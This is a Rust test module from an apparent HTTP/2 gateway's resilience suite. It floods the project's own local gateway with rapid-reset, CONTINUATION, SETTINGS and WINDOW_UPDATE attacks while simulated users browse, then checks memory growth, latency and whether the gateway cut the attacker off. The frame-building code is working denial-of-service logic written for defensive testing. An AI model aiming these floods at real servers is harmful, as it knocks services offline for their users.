//! HTTP/2 abuse: a hand-written HTTP/2 client attacks the gateway, one attack after another,
//! while 64 normal users browse.
//!
//! - **rapid reset** (CVE-2023-44487): HEADERS of a request to a public route, then at once
//!   RST_STREAM(CANCEL), on stream after stream: each costs the client two frames and the
//!   server a request it may already have started.
//! - **CONTINUATION flood** (CVE-2024-27316 class): HEADERS without END_HEADERS, then
//!   CONTINUATION frames of header literals that never end the block: a server that buffers
//!   the block until it ends buffers for ever.
//! - **SETTINGS flood** (CVE-2019-9515): SETTINGS frames sent without reading the socket, so
//!   the ACKs the server owes pile up.
//! - **WINDOW_UPDATE flood**: a million connection WINDOW_UPDATEs of increment 1.
//!
//! Each attack runs for at most [`ATTACK`] on its own connection, with its own load of users
//! (a short warm-up, the attack, a second after it), and a control run with no attack comes
//! first. A row per attack says what the gateway did to the attacker (GOAWAY and its error
//! code, the close, after how many frames and how long, or that it stopped reading) and what
//! it cost (the gateway's RSS, the users' p99). Pass, for each: the gateway still runs, every
//! user request in the attack's run was answered as it should be, `/healthz` answers 200, and
//! the gateway's RSS grew by at most [`RSS_GROWTH_LIMIT_MIB`] during the attack.

use std::net::{IpAddr, Ipv4Addr};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt, ReadHalf};
use tokio::net::TcpStream;
use tokio_rustls::client::TlsStream;

use crate::harness::{Gateway, H2, H2_PREFACE, StoreSpec, frame, frame_bytes, tls_to};
use crate::load::{Load, LoadSpec, Outcome, Phase, Tally};
use crate::procfs;
use crate::report::Report;

const USERS: LoadSpec = LoadSpec {
    users: 64,
    think: Duration::from_millis(20),
};
const WARM: Duration = Duration::from_secs(2);
/// The longest an attack runs.
const ATTACK: Duration = Duration::from_secs(5);
const AFTER: Duration = Duration::from_secs(1);
/// A write that waits longer than this: the gateway has stopped reading the attacker.
const STALL: Duration = Duration::from_secs(1);
const RSS_GROWTH_LIMIT_MIB: u64 = 64;
const ATTACKER: IpAddr = IpAddr::V4(Ipv4Addr::new(127, 201, 0, 1));

#[derive(Clone, Copy, PartialEq, Eq)]
enum Flood {
    /// The control run: the users alone.
    None,
    RapidReset,
    Continuation,
    Settings,
    WindowUpdate,
}

impl Flood {
    const ALL: [Flood; 5] = [
        Flood::None,
        Flood::RapidReset,
        Flood::Continuation,
        Flood::Settings,
        Flood::WindowUpdate,
    ];
    fn name(self) -> &'static str {
        match self {
            Flood::None => "control",
            Flood::RapidReset => "rapid-reset",
            Flood::Continuation => "continuation",
            Flood::Settings => "settings",
            Flood::WindowUpdate => "window-update",
        }
    }
    /// The most frames the attack sends.
    fn max_frames(self) -> u64 {
        match self {
            Flood::None => 0,
            Flood::RapidReset => 200_000,
            Flood::Continuation => 1_000_000,
            Flood::Settings => 100_000,
            Flood::WindowUpdate => 1_000_000,
        }
    }
    /// Whether the attacker reads the socket while it sends (the SETTINGS flood does not).
    fn reads(self) -> bool {
        self != Flood::Settings
    }
    /// Frames `n..n + count` of the attack, as bytes.
    fn batch(self, n: u64, count: u64, out: &mut Vec<u8>) {
        for k in n..n + count {
            match self {
                Flood::None => {}
                Flood::RapidReset => {
                    // Two frames per stream: HEADERS on even k, RST_STREAM on odd k.
                    let stream = 1 + 2 * (k / 2) as u32;
                    if k % 2 == 0 {
                        let block =
                            H2::request_block("GET", "/public/rapid-reset", "localhost", &[]);
                        let flags = frame::END_STREAM | frame::END_HEADERS;
                        out.extend(frame_bytes(frame::HEADERS, flags, stream, &block));
                    } else {
                        let code = frame::CANCEL.to_be_bytes();
                        out.extend(frame_bytes(frame::RST_STREAM, 0, stream, &code));
                    }
                }
                Flood::Continuation if k == 0 => {
                    let block = H2::request_block("GET", "/public/continuation", "localhost", &[]);
                    out.extend(frame_bytes(frame::HEADERS, frame::END_STREAM, 1, &block));
                }
                Flood::Continuation => {
                    let mut lit = vec![0x00, 8];
                    lit.extend_from_slice(format!("x-{:06}", k % 1_000_000).as_bytes());
                    lit.push(48);
                    lit.extend_from_slice(&[b'a'; 48]);
                    out.extend(frame_bytes(frame::CONTINUATION, 0, 1, &lit));
                }
                Flood::Settings => {
                    let mut p = frame::SETTINGS_INITIAL_WINDOW_SIZE.to_be_bytes().to_vec();
                    p.extend_from_slice(&65_535u32.to_be_bytes());
                    out.extend(frame_bytes(frame::SETTINGS, 0, 0, &p));
                }
                Flood::WindowUpdate => {
                    out.extend(frame_bytes(frame::WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes()));
                }
            }
        }
    }
}

/// What the attacker saw of the gateway.
#[derive(Default, Clone)]
struct Seen {
    /// `(when, frames sent by then, last stream id, error code, debug data)` of the first
    /// GOAWAY.
    goaway: Option<(Duration, u64, u32, u32, String)>,
    /// When the connection closed (EOF, reset, TLS error).
    closed: Option<Duration>,
    /// Frames the gateway sent, by type: HEADERS, RST_STREAM, SETTINGS ACK.
    headers: u64,
    resets: u64,
    settings_acks: u64,
}

/// How one attack went.
#[derive(Default, Clone)]
struct Attacked {
    frames: u64,
    /// How long the attacker sent.
    sent_for: Duration,
    /// A write waited longer than [`STALL`]: the gateway stopped reading.
    stalled: bool,
    /// The first write error, if a write failed.
    write_error: Option<String>,
    seen: Seen,
}

/// The attacker's side of one connection, shared by its writer and its reader.
struct Wire {
    t0: Instant,
    sent: AtomicU64,
    seen: Mutex<Seen>,
    /// Set once the connection closed: the writer stops.
    done: AtomicBool,
}

/// Read frames until the connection ends (or `until`), noting what the gateway sent.
async fn read_frames(
    mut r: ReadHalf<TlsStream<TcpStream>>,
    wire: Arc<Wire>,
    until: tokio::time::Instant,
) {
    let mut buf: Vec<u8> = Vec::new();
    let mut chunk = vec![0u8; 64 * 1024];
    loop {
        let n = match tokio::time::timeout_at(until, r.read(&mut chunk)).await {
            Err(_) => return,
            Ok(Ok(0) | Err(_)) => {
                wire.seen
                    .lock()
                    .unwrap()
                    .closed
                    .get_or_insert(wire.t0.elapsed());
                wire.done.store(true, Ordering::SeqCst);
                return;
            }
            Ok(Ok(n)) => n,
        };
        buf.extend_from_slice(&chunk[..n]);
        while buf.len() >= 9 {
            let len = u32::from_be_bytes([0, buf[0], buf[1], buf[2]]) as usize;
            if buf.len() < 9 + len {
                break;
            }
            let (kind, flags) = (buf[3], buf[4]);
            let payload = &buf[9..9 + len];
            let mut s = wire.seen.lock().unwrap();
            match kind {
                frame::HEADERS => s.headers += 1,
                frame::RST_STREAM => s.resets += 1,
                frame::SETTINGS if flags & frame::ACK != 0 => s.settings_acks += 1,
                frame::GOAWAY if len >= 8 && s.goaway.is_none() => {
                    let last = u32::from_be_bytes(payload[0..4].try_into().unwrap()) & 0x7fff_ffff;
                    let code = u32::from_be_bytes(payload[4..8].try_into().unwrap());
                    let debug = String::from_utf8_lossy(&payload[8..]).into_owned();
                    let frames = wire.sent.load(Ordering::Relaxed);
                    s.goaway = Some((wire.t0.elapsed(), frames, last, code, debug));
                }
                _ => {}
            }
            drop(s);
            buf.drain(..9 + len);
        }
    }
}

/// Run `flood` on a fresh HTTP/2 connection for at most [`ATTACK`].
async fn attack(gw: &Gateway, flood: Flood) -> Attacked {
    let tls = tls_to(gw.https, gw.tls_config(&[b"h2"]), Some(ATTACKER))
        .await
        .expect("the attacker's TLS handshake");
    assert_eq!(tls.get_ref().1.alpn_protocol(), Some(&b"h2"[..]));
    let (r, mut w) = tokio::io::split(tls);
    let wire = Arc::new(Wire {
        t0: Instant::now(),
        sent: AtomicU64::new(0),
        seen: Mutex::new(Seen::default()),
        done: AtomicBool::new(false),
    });
    let deadline = tokio::time::Instant::now() + ATTACK;
    let (reader, unread) = if flood.reads() {
        let h = tokio::spawn(read_frames(r, wire.clone(), deadline + STALL));
        (Some(h), None)
    } else {
        (None, Some(r))
    };
    let mut out = Attacked::default();
    let per_batch = if flood == Flood::WindowUpdate {
        1_000
    } else {
        100
    };
    let mut bytes = H2_PREFACE.to_vec();
    bytes.extend(frame_bytes(frame::SETTINGS, 0, 0, &[]));
    // When the write in progress began: one still blocked at the deadline is a stall too.
    let in_flight = std::cell::Cell::new(None::<Instant>);
    let send = async {
        loop {
            let n = wire.sent.load(Ordering::Relaxed);
            if wire.done.load(Ordering::SeqCst) || n >= flood.max_frames() {
                break;
            }
            flood.batch(n, per_batch, &mut bytes);
            in_flight.set(Some(Instant::now()));
            let written = w.write_all(&bytes).await;
            let began = in_flight.take().unwrap();
            if let Err(e) = written {
                out.write_error = Some(e.to_string());
                break;
            }
            out.stalled |= began.elapsed() > STALL;
            wire.sent.store(n + per_batch, Ordering::Relaxed);
            bytes.clear();
        }
        let _ = w.flush().await;
    };
    let _ = tokio::time::timeout_at(deadline, send).await;
    out.stalled |= in_flight.get().is_some_and(|t| t.elapsed() > STALL);
    out.frames = wire.sent.load(Ordering::Relaxed);
    out.sent_for = wire.t0.elapsed();
    match (reader, unread) {
        (Some(h), _) => {
            let _ = h.await;
        }
        // The SETTINGS flood read nothing while it sent: now read for a while what the
        // gateway had for it.
        (None, Some(r)) => {
            let until = tokio::time::Instant::now() + Duration::from_secs(2);
            read_frames(r, wire.clone(), until).await;
        }
        (None, None) => {}
    }
    out.seen = wire.seen.lock().unwrap().clone();
    out
}

/// One attack's run: the attack, what the users got, what the gateway looked like.
struct Run {
    flood: Flood,
    attacked: Attacked,
    tally: Tally,
    rss_before: u64,
    rss_peak: u64,
    alive: bool,
    healthz: Option<u16>,
}

/// The attack with the gateway's RSS sampled every 100 ms while it lasts (the control run
/// only waits [`ATTACK`]).
async fn attack_sampled(gw: &Gateway, pid: u32, flood: Flood) -> (Attacked, u64) {
    let peak = AtomicU64::new(procfs::rss_kib(pid).unwrap_or(0));
    let sampler = async {
        loop {
            peak.fetch_max(procfs::rss_kib(pid).unwrap_or(0), Ordering::Relaxed);
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    };
    let run = async {
        if flood == Flood::None {
            tokio::time::sleep(ATTACK).await;
            Attacked::default()
        } else {
            attack(gw, flood).await
        }
    };
    let attacked = tokio::select! {
        a = run => a,
        () = sampler => unreachable!(),
    };
    peak.fetch_max(procfs::rss_kib(pid).unwrap_or(0), Ordering::Relaxed);
    (attacked, peak.load(Ordering::Relaxed))
}

async fn healthz(gw: &Gateway) -> Option<u16> {
    gw.plain
        .get(gw.admin_url("/healthz"))
        .timeout(Duration::from_secs(5))
        .send()
        .await
        .ok()
        .map(|r| r.status().as_u16())
}

async fn run_one(gw: &Gateway, pid: u32, flood: Flood) -> Run {
    let load = Load::start(&[gw], USERS);
    tokio::time::sleep(WARM).await;
    let rss_before = procfs::rss_kib(pid).unwrap_or(0);
    load.phase(Phase::Fault);
    let (attacked, rss_peak) = attack_sampled(gw, pid, flood).await;
    load.phase(Phase::After);
    tokio::time::sleep(AFTER).await;
    let alive = procfs::alive(pid);
    let healthz = healthz(gw).await;
    let tally = load.stop().await;
    Run {
        flood,
        attacked,
        tally,
        rss_before,
        rss_peak,
        alive,
        healthz,
    }
}

pub async fn h2_abuse() -> Report {
    let gw = Gateway::start(crate::store::config(StoreSpec::Memory)).await;
    let pid = procfs::pid(&gw);
    let t0 = Instant::now();
    let mut runs = Vec::new();
    for flood in Flood::ALL {
        runs.push(run_one(&gw, pid, flood).await);
    }
    let window = t0.elapsed();
    let control_p99 = runs[0].tally.phase(Phase::Fault).quantile_ms(0.99);
    let mut tally = Tally::default();
    for r in &runs {
        tally.merge(r.tally.clone());
    }
    let mut report = Report::new(tally, &[], window).note(format!(
        "{} users; each attack on its own HTTP/2 connection from {ATTACKER}, at most {} s; \
         hyper's HTTP/2 server as the gateway configures it (src/server/conn.rs)",
        USERS.users,
        ATTACK.as_secs()
    ));
    for r in &runs {
        report = report.note(row(r, control_p99));
    }
    for r in &runs {
        report = judge(report, r);
    }
    if !report.passed() {
        eprintln!("gateway stderr:\n{}", gw.stderr_text());
    }
    report
}

/// What the gateway did to the attacker, in words.
fn verdict(a: &Attacked) -> String {
    let s = &a.seen;
    let mut out = match (&s.goaway, s.closed) {
        (Some((t, frames, last, code, debug)), closed) => format!(
            "GOAWAY {} (last stream {last}{}) after {:.2} s, {frames} frames sent; {}",
            frame::error_name(*code),
            if debug.is_empty() {
                String::new()
            } else {
                format!(", \"{debug}\"")
            },
            t.as_secs_f64(),
            closed.map_or("connection still open".to_string(), |c| format!(
                "closed after {:.2} s",
                c.as_secs_f64()
            ))
        ),
        (None, Some(c)) => format!("closed without GOAWAY after {:.2} s", c.as_secs_f64()),
        (None, None) => format!(
            "not cut off: still open after {:.2} s",
            a.sent_for.as_secs_f64()
        ),
    };
    if a.stalled {
        out.push_str("; it stopped reading the attacker (a write blocked > 1 s)");
    }
    if let Some(e) = &a.write_error {
        out.push_str(&format!("; write failed: {e}"));
    }
    out
}

fn row(r: &Run, control_p99: Option<f64>) -> String {
    let ms = |v: Option<f64>| v.map_or("-".to_string(), |v| format!("{v:.1} ms"));
    let t = r.tally.phase(Phase::Fault);
    let a = &r.attacked;
    let attack = if r.flood == Flood::None {
        "no attack".to_string()
    } else {
        format!(
            "{} frames in {:.2} s: {}; it sent {} HEADERS, {} RST_STREAM, {} SETTINGS ACK",
            a.frames,
            a.sent_for.as_secs_f64(),
            verdict(a),
            a.seen.headers,
            a.seen.resets,
            a.seen.settings_acks
        )
    };
    let ratio = match (t.quantile_ms(0.99), control_p99) {
        (Some(p), Some(c)) if c > 0.0 && r.flood != Flood::None => format!(" (×{:.2})", p / c),
        _ => String::new(),
    };
    format!(
        "{:<13} {attack}\n{:<15}gateway RSS {} → peak {}; users {} requests, {} ok, p99 {}{ratio}",
        r.flood.name(),
        "",
        procfs::mib(r.rss_before),
        procfs::mib(r.rss_peak),
        t.requests(),
        t.count(Outcome::Ok),
        ms(t.quantile_ms(0.99)),
    )
}

fn judge(report: Report, r: &Run) -> Report {
    let t = r.tally.phase(Phase::Fault);
    let growth_mib = r.rss_peak.saturating_sub(r.rss_before) / 1024;
    let users_ok = t.requests() > 0 && t.count(Outcome::Ok) == t.requests();
    report.check(
        format!(
            "{}: gateway running {}, /healthz {}, users {}/{} ok, RSS +{growth_mib} MiB (at most {RSS_GROWTH_LIMIT_MIB})",
            r.flood.name(),
            if r.alive { "yes" } else { "NO" },
            r.healthz.map_or("no answer".to_string(), |s| s.to_string()),
            t.count(Outcome::Ok),
            t.requests(),
        ),
        r.alive && r.healthz == Some(200) && users_ok && growth_mib <= RSS_GROWTH_LIMIT_MIB,
    )
}
